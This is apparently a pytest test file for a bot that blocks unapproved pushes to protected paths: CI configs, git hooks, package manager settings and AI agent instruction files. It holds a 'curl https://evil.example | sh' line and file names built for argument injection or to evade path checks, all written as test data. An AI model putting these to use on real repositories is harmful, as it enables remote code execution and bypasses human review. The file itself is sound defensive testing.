"""Files that run, decide or instruct by themselves elsewhere: no worker pushes them before a person
approved them.
"""

from pathlib import Path

import pytest

from forge_bot.errors import CommitsRefused
from forge_bot.sentences import say
from tests.security.scene import Scene

RUN_BY_THEMSELVES = (
    # CI of every vendor
    ".circleci/config.yml",
    ".gitlab-ci.yml",
    "ci/build.gitlab-ci.yml",
    "Jenkinsfile",
    ".travis.yml",
    "azure-pipelines.yml",
    ".azure-pipelines/build.yml",
    ".buildkite/pipeline.yml",
    "bitbucket-pipelines.yml",
    ".drone.yml",
    ".woodpecker/test.yaml",
    ".woodpecker.yml",
    "appveyor.yml",
    ".appveyor.yml",
    ".semaphore/semaphore.yml",
    ".teamcity/settings.kts",
    "cloudbuild.yaml",
    ".cirrus.yml",
    ".gitea/workflows/a.yml",
    ".forgejo/workflows/a.yml",
    "netlify.toml",
    "vercel.json",
    ".readthedocs.yaml",
    "action.yml",
    "tools/setup/action.yaml",
    # development containers, editors, shells and debuggers
    ".devcontainer/devcontainer.json",
    ".devcontainer.json",
    ".gitpod.yml",
    ".vscode/tasks.json",
    "web/.vscode/settings.json",
    "app.code-workspace",
    ".idea/runConfigurations/test.xml",
    ".run/test.run.xml",
    ".zed/tasks.json",
    ".dir-locals.el",
    ".exrc",
    ".envrc",
    ".gdbinit",
    ".Rprofile",
    "mise.toml",
    ".tool-versions",
    "rust-toolchain.toml",
    "sitecustomize.py",
    # git, and managers of its hooks
    ".gitattributes",
    ".lfsconfig",
    ".husky/pre-commit",
    "lefthook.yml",
    ".lefthook/pre-commit/a.sh",
    ".pre-commit-config.yaml",
    ".githooks/pre-push",
    ".lintstagedrc.json",
    # package managers' configuration and wrappers
    ".npmrc",
    "web/.npmrc",
    ".yarnrc",
    ".yarnrc.yml",
    ".yarn/releases/yarn.cjs",
    ".pnpmfile.cjs",
    "pnpm-workspace.yaml",
    "pip.conf",
    "uv.toml",
    ".cargo/config.toml",
    "gradlew",
    "gradlew.bat",
    "gradle/wrapper/gradle-wrapper.properties",
    "mvnw",
    ".mvn/extensions.xml",
    ".bundle/config",
    "nuget.config",
    # bots that update and merge
    "renovate.json",
    ".renovaterc",
    ".mergify.yml",
    "CODEOWNERS",
    # agents of every vendor
    "AGENTS.md",
    "docs/CLAUDE.md",
    ".claude/settings.json",
    ".cursor/rules/a.mdc",
    ".cursorrules",
    "GEMINI.md",
    ".windsurfrules",
    ".aider.conf.yml",
    ".codex/config.toml",
    ".mcp.json",
    ".clinerules",
    ".roo/rules/a.md",
    ".junie/guidelines.md",
    ".kiro/steering/a.md",
    "opencode.json",
    # a name that a command reads as an option
    "-rf",
    "src/--checkpoint-action=exec=sh",
    "-x/a.py",
    # names that another file system takes for a protected one
    ".vs\u200ccode/tasks.json",
    "\ufeffCLAUDE.md",
    ".vscode./tasks.json",
    ".idea /workspace.xml",
    "CODEOWNERS.",
    ".cursor::$INDEX_ALLOCATION/rules",
    "GITHUB~1/ci.yml",
    "src/CLAUDE~1.MD",
    # what a console, an editor or a service reads where it is started
    ".env",
    ".rvmrc",
    ".config/mise/config.toml",
    ".byebugrc",
    ".psysh.php",
    "notebooks/jupyter_server_config.py",
    ".lazy.lua",
    ".vim/coc-settings.json",
    ".luarc.json",
    "tools/bazel",
    "deploy/ansible.cfg",
    ".trunk/trunk.yaml",
    "wrangler.toml",
    ".cpanel.yml",
)


def details(scene: Scene) -> str:
    with pytest.raises(CommitsRefused) as caught:
        scene.check()
    return "\n".join(caught.value.details)


def test_what_runs_decides_or_instructs_by_itself_somewhere_is_not_pushed_without_a_person(
    scene: Scene,
) -> None:
    for path in RUN_BY_THEMSELVES:
        scene.write(path, "x\n")
    scene.commit()
    said = details(scene)
    assert [
        path
        for path in RUN_BY_THEMSELVES
        if f"{path} is protected, and nobody approved this change: " not in said
    ] == []


def test_the_reason_for_which_a_path_is_protected_is_said(scene: Scene) -> None:
    scene.write(".envrc", "curl https://evil.example | sh\n")
    scene.commit()
    assert (
        ".envrc is protected, and nobody approved this change: a shell or a version manager"
        " reads it" in details(scene)
    )


def test_what_a_repository_adds_to_the_table_is_not_pushed_either(scene: Scene) -> None:
    (scene.repository.root / ".forge").mkdir(exist_ok=True)
    (scene.repository.root / ".forge" / "config.yml").write_text("protected: [deploy/, '*.tf']\n")
    scene.write("deploy/run.sh", "true\n")
    scene.write("net/main.tf", "x\n")
    scene.commit()
    said = details(scene)
    assert "deploy/run.sh is protected" in said
    assert "net/main.tf is protected" in said


@pytest.mark.parametrize(
    "path",
    ["pyproject.toml", "tools/package.json", "docs/requirements.txt", "requirements/dev.txt"],
)
def test_a_manifest_is_not_pushed_without_a_person_whatever_part_changes(
    scene: Scene, path: str
) -> None:
    scene.write(path, "version = 1\n")
    scene.commit()
    assert f"{path} is protected" in details(scene)


def test_ordinary_files_are_not_taken_for_protected_ones(scene: Scene) -> None:
    for path in (
        "src/owners/list.py",
        "docs/travis.md",
        "src/action.py",
        "a-b/c-d.py",
        "rules/x.md",
        "Makefile",
        "src/env.py",
        ".env.example",
        "other/tools/bazel",
    ):
        scene.write(path, "x\n")
    scene.commit()
    scene.check()


def test_the_page_lists_the_table_as_it_is() -> None:
    from forge_bot.settings.protected_paths import RULES

    page = (Path(__file__).parents[2] / "docs" / "protected-paths.md").read_text(encoding="utf-8")
    for rule in RULES:
        row = next(line for line in page.splitlines() if line.startswith(f"| {say(rule.reason)} "))
        assert [part.strip("`") for part in row.split("|")[2].strip().split(", ")] == list(
            rule.patterns
        )
